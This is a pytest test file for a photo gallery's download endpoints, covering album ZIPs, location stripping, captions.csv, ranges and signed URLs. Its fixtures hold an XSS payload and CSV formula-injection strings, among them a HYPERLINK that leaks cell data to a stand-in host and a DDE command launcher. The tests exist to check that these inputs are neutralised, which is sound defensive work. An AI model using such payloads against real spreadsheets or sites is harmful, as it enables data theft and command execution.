"""Photo downloads and the album ZIP (gallery/web/downloads.py): the three original_downloads modes,
names, captions.csv, ranges, and presigned redirects on S3."""

from __future__ import annotations

import csv
import io
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient

from gallery.extensions import db
from gallery.media.location import strip_location
from gallery.models import Photo, PhotoStatus, User
from tests.conftest import make_app, make_token, make_user
from tests.web.download_world import (
    edit,
    gps_tags,
    largest_jpeg_bytes,
    located_jpeg,
    located_png,
    location_leaks,
    make_album,
    make_event,
    pixels,
    set_downloads,
    stored,
    unzip,
    upload,
)

pytestmark = pytest.mark.app_config(GALLERY_DERIVATIVE_SIZES="200,400")

XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'
INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def image_data(jpeg: bytes) -> bytes:
    """Bytes from the first start-of-scan segment to the end-of-image marker."""
    import struct

    pos = 2
    while True:
        while jpeg[pos] != 0xFF:
            pos += 1
        marker = jpeg[pos + 1]
        if marker == 0xDA:
            break
        pos += 2 + struct.unpack(">H", jpeg[pos + 2 : pos + 4])[0]
    return jpeg[pos : jpeg.index(b"\xff\xd9", pos) + 2]


@pytest.fixture
def editor_token(users: dict[str, User]) -> str:
    return make_token(users["editor"])


def read_captions(data: bytes) -> list[dict[str, str]]:
    assert data.startswith("\ufeff".encode()), "captions.csv starts with a UTF-8 byte-order mark"
    assert b"\r\n" in data
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# --- the album ZIP -----------------------------------------------------------------------------


def test_zip_in_off_mode_gives_web_sizes_with_safe_unique_names_and_captions(
    app: Flask, client: FlaskClient, editor_token: str
) -> None:
    event = make_event()
    album = make_album(event, "ecc-photos", downloads="off")
    names = ["IMG_0001.JPG", "img_0001.jpg", "=cmd|calc.jpg", "Zażółć gęślą jaźń.jpeg", "CON.jpg", "noname"]
    ids = []
    for i, name in enumerate(names):
        body = upload(client, editor_token, album.slug, located_jpeg(i + 1, when=f"2024:05:07 09:3{i}:00"), name)
        ids.append(body["id"])
    edit(client, editor_token, ids[0], caption=XSS, credit="Anna <b>Kowalska</b>")
    for photo_id, payload in zip(ids[1:5], INJECTIONS, strict=True):
        edit(client, editor_token, photo_id, caption=payload, credit=payload)
    edit(client, editor_token, ids[5], caption='Multi-line\ncaption, with "quotes"', credit="")

    response = client.get(f"/albums/{album.slug}/download.zip")
    assert response.status_code == 200
    assert response.mimetype == "application/zip"
    assert (
        response.headers["Content-Disposition"]
        == "attachment; filename=\"ecc-photos.zip\"; filename*=UTF-8''ecc-photos.zip"
    )
    body = response.get_data()
    assert int(response.headers["Content-Length"]) == len(body)  # sized: browsers show progress
    files = unzip(body)
    expected = [
        "IMG_0001.JPG",
        "img_0001 (2).jpg",
        "_cmd_calc.jpg",
        "Zażółć gęślą jaźń.jpeg",
        "_CON.jpg",
        "noname.jpg",
        "captions.csv",
    ]
    assert list(files) == expected
    for name, photo_id in zip(expected, ids, strict=False):
        assert files[name] == largest_jpeg_bytes(app, photo_id), name
        assert location_leaks(files[name]) == [], name
    rows = read_captions(files["captions.csv"])
    assert [r["file"] for r in rows] == expected[:-1]
    assert rows[0]["caption"] == XSS  # kept as data; CSV has no markup to run
    assert rows[0]["credit"] == "Anna <b>Kowalska</b>"
    for row, payload in zip(rows[1:5], INJECTIONS, strict=True):
        assert row["caption"] == "'" + payload and row["credit"] == "'" + payload
    assert rows[5]["caption"] == 'Multi-line\ncaption, with "quotes"'
    assert rows[0]["taken_at"] == "2024-05-07T09:30:00+02:00"  # local time with its offset
    assert rows[0]["taken_at_text"] == "7 May 2024, 09:30 (UTC+02:00)"  # and for people, in their language


def test_zip_in_exact_mode_gives_the_stored_originals_with_their_gps(
    app: Flask, client: FlaskClient, editor_token: str
) -> None:
    album = make_album(make_event(), "exact-album", downloads="exact")
    originals = {}
    for i in range(2):
        data = located_jpeg(10 + i)
        originals[upload(client, editor_token, album.slug, data, f"DSC_{i}.jpg")["id"]] = data
    png = located_png(3)
    originals[upload(client, editor_token, album.slug, png, "diagram.jpg")["id"]] = png
    response = client.get(f"/albums/{album.slug}/download.zip")
    assert response.status_code == 200
    body = response.get_data()
    assert int(response.headers["Content-Length"]) == len(body)
    files = unzip(body)
    assert list(files) == ["DSC_0.jpg", "DSC_1.jpg", "diagram.png", "captions.csv"]  # extension from the bytes
    for name, (photo_id, data) in zip(files, originals.items(), strict=False):
        photo = db.session.get(Photo, photo_id)
        assert files[name] == data == stored(app, photo.original_key)
        assert gps_tags(files[name]), "exact originals keep their location (the editor chose so)"


def test_zip_without_location_strips_jpegs_and_falls_back_to_web_size(
    app: Flask, client: FlaskClient, editor_token: str
) -> None:
    album = make_album(make_event(), "noloc-album", downloads="without_location")
    jpeg = located_jpeg(21)
    jpeg_id = upload(client, editor_token, album.slug, jpeg, "speaker.jpg")["id"]
    png_id = upload(client, editor_token, album.slug, located_png(22), "chart.png")["id"]
    response = client.get(f"/albums/{album.slug}/download.zip")
    assert response.status_code == 200
    assert "Content-Length" not in response.headers  # stripped sizes are known only after streaming
    files = unzip(response.get_data())
    assert list(files) == ["speaker.jpg", "chart.jpg", "captions.csv"]
    stripped = files["speaker.jpg"]
    assert gps_tags(jpeg) and location_leaks(stripped) == []
    assert stripped == strip_location(jpeg)
    assert image_data(stripped) == image_data(jpeg)
    assert pixels(stripped) == pixels(jpeg)
    assert files["chart.jpg"] == largest_jpeg_bytes(app, png_id)
    assert location_leaks(files["chart.jpg"]) == []
    assert jpeg_id != png_id


def test_zip_holds_only_ready_photos_and_an_empty_album_gives_just_the_captions(
    app: Flask, client: FlaskClient, editor_token: str
) -> None:
    event = make_event()
    album = make_album(event, "mixed")
    ids = [upload(client, editor_token, album.slug, located_jpeg(30 + i), f"p{i}.jpg")["id"] for i in range(3)]
    db.session.get(Photo, ids[0]).status = PhotoStatus.processing
    db.session.get(Photo, ids[1]).status = PhotoStatus.failed
    client.delete(f"/api/v1/photos/{ids[2]}", headers={"Authorization": f"Bearer {editor_token}"})
    db.session.commit()
    files = unzip(client.get("/albums/mixed/download.zip").get_data())
    assert list(files) == ["captions.csv"]
    assert read_captions(files["captions.csv"]) == []
    empty = make_album(event, "empty")
    assert list(unzip(client.get(f"/albums/{empty.slug}/download.zip").get_data())) == ["captions.csv"]
    assert client.get("/albums/no-such-album/download.zip").status_code == 404


def test_zip_head_request_gives_the_length_without_reading_storage(
    app: Flask, client: FlaskClient, editor_token: str
) -> None:
    album = make_album(make_event(), "head-album", downloads="exact")
    upload(client, editor_token, album.slug, located_jpeg(40), "a.jpg")
    full = client.get(f"/albums/{album.slug}/download.zip")
    storage = app.extensions["gallery_storage"]
    for obj in list(storage.list("originals/")):
        storage.delete(obj.key)  # a HEAD must not need the bytes
    head = client.head(f"/albums/{album.slug}/download.zip")
    assert head.status_code == 200
    assert head.headers["Content-Length"] == full.headers["Content-Length"]
    assert head.get_data() == b""


# --- one photo ---------------------------------------------------------------------------------


def test_single_download_follows_the_album_setting(app: Flask, client: FlaskClient, editor_token: str) -> None:
    album = make_album(make_event(), "single", downloads="off")
    original = located_jpeg(50)
    photo_id = upload(client, editor_token, album.slug, original, "Łódź — otwarcie.jpg")["id"]
    url = f"/albums/{album.slug}/photos/{photo_id}/download"

    web = client.get(url)
    assert web.status_code == 200 and web.mimetype == "image/jpeg"
    assert web.get_data() == largest_jpeg_bytes(app, photo_id)
    assert location_leaks(web.get_data()) == []
    assert web.headers["Content-Disposition"] == (  # RFC 6266: ASCII fallback, then the exact name
        "attachment; filename=\"_odz _ otwarcie.jpg\"; filename*=UTF-8''%C5%81%C3%B3d%C5%BA%20%E2%80%94%20otwarcie.jpg"
    )

    set_downloads(album, "without_location")
    noloc = client.get(url)
    assert noloc.status_code == 200 and noloc.mimetype == "image/jpeg"
    assert noloc.get_data() == strip_location(original)
    assert location_leaks(noloc.get_data()) == []
    assert pixels(noloc.get_data()) == pixels(original)

    set_downloads(album, "exact")
    exact = client.get(url)
    assert exact.status_code == 200
    assert exact.get_data() == original
    assert gps_tags(exact.get_data())
    assert "filename*=UTF-8''%C5%81%C3%B3d%C5%BA" in exact.headers["Content-Disposition"]


def test_local_original_supports_ranges_and_conditional_requests(
    app: Flask, client: FlaskClient, editor_token: str
) -> None:
    album = make_album(make_event(), "ranges", downloads="exact")
    original = located_jpeg(60)
    photo_id = upload(client, editor_token, album.slug, original, "r.jpg")["id"]
    url = f"/albums/{album.slug}/photos/{photo_id}/download"
    full = client.get(url)
    assert full.headers["Accept-Ranges"] == "bytes"
    etag = full.headers["ETag"]
    part = client.get(url, headers={"Range": "bytes=100-1099"})
    assert part.status_code == 206
    assert part.headers["Content-Range"] == f"bytes 100-1099/{len(original)}"
    assert part.get_data() == original[100:1100]
    tail = client.get(url, headers={"Range": "bytes=-10"})
    assert tail.status_code == 206 and tail.get_data() == original[-10:]
    assert client.get(url, headers={"Range": f"bytes={len(original) + 5}-"}).status_code == 416
    assert client.get(url, headers={"If-None-Match": etag}).status_code == 304


def test_single_download_refuses_what_it_must_not_give(app: Flask, client: FlaskClient, editor_token: str) -> None:
    event = make_event()
    first = make_album(event, "first")
    second = make_album(event, "second")
    photo_id = upload(client, editor_token, first.slug, located_jpeg(70), "x.jpg")["id"]
    assert client.get(f"/albums/first/photos/{photo_id}/download").status_code == 200
    assert client.get(f"/albums/{second.slug}/photos/{photo_id}/download").status_code == 404  # wrong album
    assert client.get("/albums/first/photos/999999/download").status_code == 404
    assert client.get("/albums/first/photos/99999999999999/download").status_code == 404
    assert client.get("/albums/first/photos/abc/download").status_code == 404
    db.session.get(Photo, photo_id).status = PhotoStatus.processing
    db.session.commit()
    assert client.get(f"/albums/first/photos/{photo_id}/download").status_code == 404


# --- S3: presigned redirects -------------------------------------------------------------------


@pytest.fixture(scope="module")
def s3_endpoint() -> Iterator[str]:
    from tests.storage.s3server import moto_server

    with moto_server() as endpoint:
        yield endpoint


@pytest.fixture
def s3_app(tmp_path: Path, database_url: str, s3_endpoint: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[Flask]:
    """The app on a fresh bucket of the moto S3 server (databases handled like the ``app`` fixture)."""
    from tests.conftest import _empty_tables, _pg_tables_ready
    from tests.storage.s3server import make_s3_storage, moto_env

    for name, value in moto_env(s3_endpoint).items():
        monkeypatch.setenv(name, value)
    bucket = make_s3_storage(s3_endpoint).bucket
    application = make_app(
        tmp_path, database_url, GALLERY_STORAGE_URL=f"s3://{bucket}/media", GALLERY_DERIVATIVE_SIZES="200,400"
    )
    with application.app_context():
        if database_url.startswith("sqlite"):
            db.create_all()
        elif database_url not in _pg_tables_ready:
            db.drop_all()
            db.create_all()
            _pg_tables_ready.add(database_url)
        try:
            yield application
        finally:
            db.session.remove()
            if not database_url.startswith("sqlite"):
                _empty_tables()
            db.engine.dispose()


def fetch(url: str) -> tuple[bytes, Any]:
    with urllib.request.urlopen(url, timeout=30) as response:
        return response.read(), response.headers


def test_s3_downloads_redirect_to_presigned_urls_with_the_file_name(s3_app: Flask) -> None:
    client = s3_app.test_client()
    token = make_token(make_user("editor"))
    album = make_album(make_event(), "s3-album", downloads="exact")
    original = located_jpeg(80)
    photo_id = upload(client, token, album.slug, original, "Zdjęcie 1.jpg")["id"]
    url = f"/albums/{album.slug}/photos/{photo_id}/download"

    response = client.get(url)
    assert response.status_code == 302
    assert response.headers["Cache-Control"] == "private, no-store"
    location = response.headers["Location"]
    assert location.startswith(s3_app.config["GALLERY_SETTINGS"].s3_endpoint_url)
    assert "X-Amz-Signature=" in location
    data, headers = fetch(location)
    assert data == original
    assert headers["Content-Type"] == "image/jpeg"
    assert headers["Content-Disposition"].startswith("attachment;")
    assert "filename*=UTF-8''Zdj%C4%99cie%201.jpg" in headers["Content-Disposition"]

    set_downloads(album, "off")
    web = client.get(url)
    assert web.status_code == 302
    data, headers = fetch(web.headers["Location"])
    assert data == largest_jpeg_bytes(s3_app, photo_id)
    assert location_leaks(data) == []

    set_downloads(album, "without_location")  # streamed through Gallery: the store cannot strip
    noloc = client.get(url)
    assert noloc.status_code == 200
    assert noloc.get_data() == strip_location(original)

    zipped = unzip(client.get(f"/albums/{album.slug}/download.zip").get_data())
    assert zipped["Zdjęcie 1.jpg"] == strip_location(original)


# --- what the pages say ----------------------------------------------------------------------


def test_album_and_photo_pages_say_what_the_downloads_give(app: Flask, client: FlaskClient, editor_token: str) -> None:
    album = make_album(make_event(), "pages", downloads="without_location")
    jpeg_id = upload(client, editor_token, album.slug, located_jpeg(90), "a.jpg")["id"]
    png_id = upload(client, editor_token, album.slug, located_png(91), "b.png")["id"]
    page = client.get(f"/albums/{album.slug}/photos/{jpeg_id}").get_data(as_text=True)
    assert f'href="/albums/{album.slug}/photos/{jpeg_id}/download"' in page
    assert "the original file, without location data" in page
    assert "original files without location data, and captions.csv" in page
    png_page = client.get(f"/albums/{album.slug}/photos/{png_id}").get_data(as_text=True)
    assert "JPEG in the largest web size" in png_page  # other formats fall back to the web size
    set_downloads(album, "exact")
    album_page = client.get(f"/albums/{album.slug}").get_data(as_text=True)
    assert f'href="/albums/{album.slug}/download.zip"' in album_page
    assert "original files and captions.csv" in album_page
    set_downloads(album, "off")
    assert "JPEG in the largest web size" in client.get(f"/albums/{album.slug}/photos/{jpeg_id}").get_data(as_text=True)


# --- expiring signed downloads of unlisted and private albums ------------------------------------


@pytest.mark.app_config(GALLERY_DERIVATIVE_SIZES="200,400", GALLERY_PRIVATE_MEDIA_TTL="2")
def test_unlisted_downloads_go_through_expiring_signed_urls(app: Flask, client: FlaskClient, editor_token: str) -> None:
    import time

    from gallery.consent.hiding import hide_photos
    from gallery.core.audit import SYSTEM
    from gallery.models import HiddenReason

    album = make_album(make_event(), "unl-dl", visibility="unlisted", downloads="exact")
    original = located_jpeg(1)
    photo_id = upload(client, editor_token, album.slug, original, "IMG_1.jpg")["id"]
    visitor = app.test_client()
    first = visitor.get(f"/albums/unl-dl/photos/{photo_id}/download?token={album.share_token}")
    assert first.status_code == 302 and first.headers["Cache-Control"] == "private, no-store"
    signed = first.headers["Location"]
    assert signed.startswith(f"/media/downloads/{photo_id}/original?exp=") and album.share_token not in signed
    got = app.test_client().get(signed)  # anyone holding it, no cookie, no token: until it expires
    assert got.status_code == 200 and got.get_data() == original
    assert got.headers["Cache-Control"] == "private, no-store"
    assert "attachment" in got.headers["Content-Disposition"]
    # tampered, unsigned, for another photo or kind: 403 / 404
    sig = signed.split("sig=", 1)[1]
    tampered = signed.replace(sig, ("0" if sig[0] != "0" else "1") + sig[1:])
    assert app.test_client().get(tampered).status_code == 403
    assert app.test_client().get(signed.split("?", 1)[0]).status_code == 403
    assert app.test_client().get(signed.replace("/original?", "/web?")).status_code == 404
    # expired: 403
    time.sleep(3.1)
    assert app.test_client().get(signed).status_code == 403
    # a fresh one dies with the photo hidden
    fresh = visitor.get(f"/albums/unl-dl/photos/{photo_id}/download?token={album.share_token}").headers["Location"]
    photo = db.session.get(Photo, photo_id)
    hide_photos(
        db.session, [photo], reason=HiddenReason.editor, actor=SYSTEM, storage=app.extensions["gallery_storage"]
    )
    db.session.commit()
    assert app.test_client().get(fresh).status_code == 404


def test_public_downloads_stay_direct(app: Flask, client: FlaskClient, editor_token: str) -> None:
    album = make_album(make_event(), "pub-dl", downloads="exact")
    original = located_jpeg(2)
    photo_id = upload(client, editor_token, album.slug, original, "IMG_2.jpg")["id"]
    got = app.test_client().get(f"/albums/pub-dl/photos/{photo_id}/download")
    assert got.status_code == 200 and got.get_data() == original
    assert got.headers["Cache-Control"] == "private, no-cache"
